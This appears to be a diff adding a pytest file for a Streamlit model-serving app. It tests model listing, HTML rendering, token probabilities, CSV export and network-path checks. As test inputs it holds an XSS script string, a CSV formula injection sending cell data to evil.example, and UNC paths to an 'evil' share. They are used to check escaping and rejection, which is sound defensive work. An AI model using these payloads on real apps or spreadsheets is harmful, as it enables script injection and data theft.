@@ -1,0 +1,331 @@
+"""The app without Streamlit: its command's plan, its list of models, what it draws, its probabilities."""
+
+import csv
+import io
+import shutil
+import socket
+import sys
+from contextlib import ExitStack
+from html.parser import HTMLParser
+from pathlib import Path
+from types import SimpleNamespace
+
+import pytest
+import torch
+from support.command_line import fails
+
+from companion import load, village
+from companion.commands import app_command
+from companion.generation import LanguageModel
+from companion.gpt import GPTConfig, gpt2
+from companion.lora import add_lora, save_adapter
+from companion.runtime.adapters import on_network
+from companion.runtime.labelled import read_texts
+from companion.serve import marks
+from companion.serve.classifying import as_csv, check_texts
+from companion.serve.drawing import Drawing, Seen
+from companion.serve.offered import Offer, find_offered
+from companion.tokenization import BPETokenizer
+from companion.village import judge
+
+DATA = village.DATA / "models"
+EVIL = '<script>alert("1")</script>\'&'
+
+
+@pytest.fixture(autouse=True)
+def streamlit_is_there(monkeypatch):
+    """The plan looks for Streamlit first; the gate's environment has none."""
+    monkeypatch.setattr(app_command, "find_spec", lambda name: name == "streamlit")
+
+
+@pytest.fixture
+def folders(tmp_path):
+    """A folder with two models, a pickle, a file that is none, and a hidden model."""
+    for name in ("village", "deep/er/answerer", ".hidden/village"):
+        shutil.copytree(DATA / Path(name).name, tmp_path / "mine" / name)
+    (tmp_path / "mine" / "pickled").mkdir()
+    for name in ("config.json", "tokenizer.json"):
+        shutil.copy(DATA / "village" / name, tmp_path / "mine" / "pickled")
+    (tmp_path / "mine" / "pickled" / "pytorch_model.bin").write_bytes(b"\x80\x04.")
+    (tmp_path / "mine" / "notes.txt").write_text("nothing")
+    return tmp_path / "mine"
+
+
+def test_the_list_has_what_can_be_loaded_with_kind_and_size(folders):
+    found = {model.name: model for model in find_offered([folders])}
+    assert set(found) == {"mine/village", "mine/deep/er/answerer"}
+    assert found["mine/village"].kind == "tells" and found["mine/deep/er/answerer"].kind == "answers"
+    size = (folders / "village" / "model.safetensors").stat().st_size
+    assert found["mine/village"].label == f"mine/village ({size / 1e6:.1f} MB)"
+
+
+def test_a_model_itself_two_folders_of_a_name_and_a_name_given(folders, tmp_path):
+    shutil.copytree(DATA / "village", tmp_path / "other" / "mine" / "village")
+    found = find_offered([folders, tmp_path / "other" / "mine"], [str(DATA / "answerer")])
+    assert len(found) == 4 == len({model.name for model in found})
+    assert [model.name for model in find_offered([folders / "village"])] == ["village"]
+
+
+def test_an_adapter_is_listed_where_its_model_is_here_and_a_classifier_as_one(tmp_path):
+    teller = load(DATA / "village", "cpu")
+    add_lora(teller.model, None, 2, 2.0)
+    for name, base in (("here", DATA / "village"), ("away", "openai-community/gpt2")):
+        save_adapter(teller.model, tmp_path / name, base)
+    assert [Path(model.folder).name for model in find_offered([tmp_path])] == ["here"]
+    (tmp_path / "here" / "head.safetensors").write_bytes(b"")
+    assert [model.kind for model in find_offered([tmp_path])] == ["classifies"]
+
+
+def test_an_offer_comes_through_a_command_line_as_it_was():
+    offer = Offer(find_offered([DATA]), ["auto", "cpu"])
+    assert Offer.from_json(offer.to_json()) == offer
+    assert list(offer.of_kind("tells", "answers").values())[-1].name == "models/answerer"
+    assert [model.name for model in offer.of_kind("answers").values()] == ["models/answerer"]
+
+
+# -- the command ------------------------------------------------------------------
+
+
+def arguments(**others):
+    given = {"models": None, "model": [], "host": "127.0.0.1", "port": free_port(), "device": "cpu"}
+    return SimpleNamespace(**given | others)
+
+
+def free_port() -> int:
+    with socket.socket() as tried:
+        tried.bind(("127.0.0.1", 0))
+        return tried.getsockname()[1]
+
+
+def test_the_plan_offers_the_shipped_models_the_village_first():
+    with ExitStack() as held:
+        plan = app_command.plan(arguments(), held)
+    names = [model.name for model in plan.offer.models]
+    assert names[0] == "models/village" and "models/answerer" in names
+    assert plan.offer.devices[0] == "cpu" and len(set(plan.offer.devices)) == len(plan.offer.devices)
+
+
+def test_what_is_wrong_is_one_line(monkeypatch, tmp_path, capsys):
+    fails(capsys, ["app", "--models", tmp_path / "none"], 2, "--models=", "is no folder")
+    fails(capsys, ["app", "--models", tmp_path], 2, "has no model in it")
+    fails(capsys, ["app", "--model", tmp_path], 2, f"--model={tmp_path} holds no model")
+    fails(capsys, ["app", "--port", 0], 2, "--port=0 must be a whole number from 1 to 65,535")
+    fails(capsys, ["app", "--device", "tpu"], 2, "device='tpu'")
+    fails(capsys, ["app", "--host", "no.such.host.invalid"], 2, "--host=no.such.host.invalid")
+    with socket.socket() as taken:
+        taken.bind(("127.0.0.1", 0))
+        taken.listen()
+        port = taken.getsockname()[1]
+        fails(capsys, ["app", "--port", port], 2, f"--port={port} cannot be listened at", "another --port")
+    words = "--host=192.0.2.1 is no address of this machine; try 127.0.0.1"  # an address of no machine at all
+    fails(capsys, ["app", "--host", "192.0.2.1"], 2, words)
+    monkeypatch.setattr(app_command, "find_spec", lambda name: None)
+    fails(capsys, ["app"], 2, "needs streamlit", "pip install -e '.[serve]'")
+
+
+@pytest.fixture
+def calls(monkeypatch):
+    """What Streamlit was started with."""
+    calls = []
+    stub = SimpleNamespace(main=lambda words, standalone_mode: calls.append(words))
+    monkeypatch.setitem(sys.modules, "streamlit", SimpleNamespace())
+    monkeypatch.setitem(sys.modules, "streamlit.web", SimpleNamespace(cli=stub))
+    monkeypatch.setitem(sys.modules, "streamlit.web.cli", stub)
+    return calls
+
+
+def test_the_address_is_one_to_click_on(calls, capsys):
+    for host, place in (("::1", "http://[::1]:8501 "), ("127.0.0.1", "http://127.0.0.1:8501 ")):
+        app_command.do(SimpleNamespace(args=arguments(host=host, port=8501), offer=Offer([], ["cpu"])))
+        assert place in capsys.readouterr().out
+
+
+def test_streamlit_is_told_to_send_nothing_and_gets_the_offer(calls):
+    with ExitStack() as held:
+        plan = app_command.plan(arguments(port=8599), held)
+    app_command.do(plan)
+    (words,) = calls
+    options = dict(zip(words[2:-2:2], words[3:-2:2], strict=True))
+    assert words[0] == "run" and Path(words[1]).name == "main.py" and Path(words[1]).is_file()
+    assert options["--browser.gatherUsageStats"] == "false" and options["--server.headless"] == "true"
+    assert options["--server.address"] == "127.0.0.1" and options["--server.port"] == "8599"
+    assert float(options["--server.maxUploadSize"]) <= 10 and options["--client.showErrorDetails"] == "none"
+    assert words[-2] == "--" and Offer.from_json(words[-1]) == plan.offer
+
+
+# -- what is drawn ------------------------------------------------------------------
+
+
+class Tags(HTMLParser):
+    """The tags of a page, and whether each is closed."""
+
+    def __init__(self, page: str):
+        super().__init__()
+        self.names, self.open, self.texts = [], [], []
+        self.feed(page)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.names.append(tag)
+        self.open.append(tag)
+
+    def handle_endtag(self, tag):
+        assert self.open.pop() == tag
+
+    def handle_data(self, data):
+        self.texts.append(data)
+
+
+def test_every_text_is_escaped_and_every_tag_closed():
+    seen = [Seen(EVIL, 0.25, ((EVIL, 0.25), ("<b>", 0.5)))]
+    verdicts = [*judge("Mara ate a key."), village.Verdict(EVIL, "unknown", EVIL)]
+    drawn = [
+        marks.plain(EVIL),
+        marks.note(EVIL),
+        marks.alert(EVIL),
+        marks.listed([EVIL]),
+        marks.heading(EVIL),
+    ]
+    drawn += [marks.judged(verdicts), marks.legend(verdicts), marks.tokens(EVIL, seen)]
+    drawn += [marks.token_table(seen, EVIL), marks.class_table([EVIL], [{EVIL: 0.75, "b": 0.25}])]
+    for page in drawn:
+        tags = Tags(page)
+        assert tags.open == [] and "script" not in tags.names and tags.names
+    assert sum(EVIL in "".join(Tags(page).texts) for page in drawn) >= 7
+
+
+def test_each_verdict_has_a_sign_or_a_line_besides_its_color_and_its_reason():
+    kinds = {kind: village.Verdict("S.", kind, f"because {kind}") for kind in marks.MEANINGS}
+    pages = {kind: marks.judged([verdict]) for kind, verdict in kinds.items()}
+    assert all(f"because {kind}" in page and f"c-{kind}" in page for kind, page in pages.items())
+    signs = {kind: "".join(Tags(page).texts).split("S.")[0].strip() for kind, page in pages.items()}
+    assert len(set(signs.values())) == 4 and signs["ok"] == ""
+    legend = marks.legend(list(kinds.values()) * 2)
+    assert all(f"{meaning}: 2" in legend for meaning in marks.MEANINGS.values())
+
+
+def test_the_hover_and_the_table_have_the_same_numbers():
+    seen = [
+        Seen(" the", 0.625, ((" the", 0.625), (" a", 0.25))),
+        Seen("\n", 0.125, ((".", 0.5), ("\n", 0.125))),
+    ]
+    hover, table = marks.tokens("Once", seen), marks.token_table(seen, "m")
+    assert 'title="␣the 0.625; others: ␣a 0.250"' in hover and 'title="⏎ 0.125; others: . 0.500"' in hover
+    assert all(number in table for number in ("0.625", "0.250", "0.125", "0.500")) and 'tabindex="0"' in table
+    doubts = [float(part.split("%")[0]) for part in hover.split("--doubt:")[1:]]
+    assert doubts[0] < doubts[1]
+
+
+# -- drawing ------------------------------------------------------------------
+
+
+def test_a_drawing_tells_what_the_model_tells_and_its_probabilities_are_the_models():
+    teller = load(DATA / "village", "cpu")
+    drawing = Drawing(teller, "Once Mara", 60, seed=3, temperature=0.7, top_k=20)
+    text = "".join(drawing)
+    assert text == teller.generate("Once Mara", max_new_tokens=60, seed=3, temperature=0.7, top_k=20)
+    seen = drawing.seen()
+    assert "".join(one.text for one in seen) == text and len(seen) == len(drawing.ids)
+    row = teller.encode("Once Mara")[0].tolist() + drawing.ids
+    with torch.no_grad():
+        shares = teller.model(torch.tensor([row]))[0].softmax(-1)
+    for n, one in enumerate(seen):
+        at = len(row) - len(seen) + n
+        assert one.share == pytest.approx(shares[at - 1, row[at]].item(), rel=1e-4)
+        assert one.likeliest[0][1] == pytest.approx(shares[at - 1].max().item(), rel=1e-4)
+
+
+def test_a_drawing_shows_nothing_for_a_row_without_a_token():
+    tokenizer = BPETokenizer.train("", 257)
+    torch.manual_seed(0)
+    model = gpt2(GPTConfig(tokenizer.vocab_size + 40, 60, 1, 2, 16)).eval()
+    drawing = Drawing(LanguageModel(model, tokenizer), "a", 50, seed=1, temperature=1.0)
+    text = "".join(drawing)
+    seen = zip(drawing.seen(), drawing.ids, strict=True)
+    spare = [one.text for one, i in seen if i >= tokenizer.vocab_size]
+    assert len(text) <= 50 - len(spare) and set(spare) == {""}
+
+
+def test_a_drawing_stays_within_the_context_and_may_be_broken_off():
+    teller = load(DATA / "village", "cpu")
+    drawing = Drawing(teller, "Once", 10_000, seed=1)
+    room = teller.model.config.context_length + 1 - teller.encode("Once").shape[1]
+    assert drawing.n == room and drawing.seen() == []
+    pieces = iter(drawing)
+    begun = [next(pieces) for _ in range(5)]
+    assert "".join(one.text for one in drawing.seen()) == "".join(begun)
+    full = Drawing(teller, "Once", 10_000, seed=1, temperature=2.0)
+    "".join(full)
+    assert len(full.seen()) == len(full.ids) <= room
+    with pytest.raises(ValueError, match="above context_length"):
+        Drawing(teller, "key " * 300, 10, seed=1)
+
+
+# -- classifying ------------------------------------------------------------------
+
+
+def test_texts_are_read_by_the_code_of_finetune_and_their_number_is_bounded():
+    data = 'text,more\r\n"a, b",1\r\nc,2\r\n'.encode("utf-8-sig")
+    assert read_texts(data, "mine.csv", "text", 2) == [
+        ("a, b", "mine.csv, line 2"),
+        ("c", "mine.csv, line 3"),
+    ]
+    for most, column, says in (
+        (1, "text", "more than 1 rows"),
+        (2, "label", "name it with the field Column"),
+    ):
+        with pytest.raises(ValueError, match=says):
+            read_texts(data, "mine.csv", column, most)
+    with pytest.raises(ValueError, match="line 3: text is missing"):
+        read_texts(b"text\na\n \n", "mine.csv", "text", 9)
+
+
+def test_a_text_that_is_too_long_is_named_by_its_place():
+    config = SimpleNamespace(context_length=3)
+    reader = SimpleNamespace(
+        classifier=SimpleNamespace(model=SimpleNamespace(config=config)),
+        rows=lambda texts: [*map(list, texts)],
+    )
+    check_texts(reader, ["abc"], ["line 2"])
+    with pytest.raises(ValueError, match="line 3 has 4 tokens, and the model reads 3"):
+        check_texts(reader, ["abc", "abcd"], ["line 2", "line 3"])
+
+
+# -- the table to download
+
+
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+def test_no_cell_of_the_table_is_a_formula(begin):
+    text = f'{begin}HYPERLINK("http://evil.example?"&A1)'
+    table = as_csv([text, "plain, and -1"], [{begin + "spam": 0.75, "ham": 0.25}] * 2)
+    head, first, second = csv.reader(io.StringIO(table, newline=""))
+    assert head == ["text", "class", f"'{begin}spam", "ham"]
+    assert first == [f"'{text}", f"'{begin}spam", "0.7500", "0.2500"]
+    assert second[0] == "plain, and -1"
+
+
+# -- strangers' adapters
+
+
+@pytest.mark.parametrize(
+    "name", [r"\\evil\share\model", "//evil/share", r"\\?\UNC\evil\share", r"\\.\pipe\x", r"\/evil\share"]
+)
+def test_a_path_of_another_computer_is_known_by_its_form(name):
+    assert on_network(name)
+
+
+@pytest.mark.parametrize(
+    "name", ["base", "../base", "/models/base", r"C:\models\base", "owner/name", r"\base"]
+)
+def test_a_path_of_this_computer_is_no_path_of_another(name):
+    assert not on_network(name)
+
+
+def test_an_adapter_that_names_another_computer_is_not_listed(tmp_path):
+    """Nor is the path looked at, which would already send the user's name there."""
+    model = gpt2(GPTConfig(300, 8, 1, 1, 8))
+    add_lora(model, rank=2)
+    save_adapter(model, tmp_path / "evil", base=r"\\evil\share")
+    assert find_offered([tmp_path]) == []
+    with pytest.raises(ValueError, match="is on another computer; copy that model"):
+        load(tmp_path / "evil")
